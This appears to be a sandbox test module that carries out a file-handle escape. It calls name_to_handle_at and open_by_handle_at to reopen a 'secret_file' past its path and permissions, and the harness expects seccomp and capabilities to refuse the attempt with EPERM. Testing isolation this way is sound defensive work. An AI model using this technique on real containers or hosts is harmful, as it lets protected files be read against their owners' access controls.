"""Opens a file by its handle, past every path and its rights."""

import ctypes
import os
import struct

from _attack import attack, syscall


@attack(refused="EPERM", layers=("seccomp", "capabilities"), needs="root")
def run(target):
    handle = ctypes.create_string_buffer(struct.pack("II", 120, 0) + bytes(128))
    mount = ctypes.c_int()
    path = target["secret_file"].encode()
    syscall("name_to_handle_at", -100, path, handle, ctypes.byref(mount), 0)
    root = os.open(target["root"], os.O_RDONLY)
    return syscall("open_by_handle_at", root, handle, os.O_RDONLY)
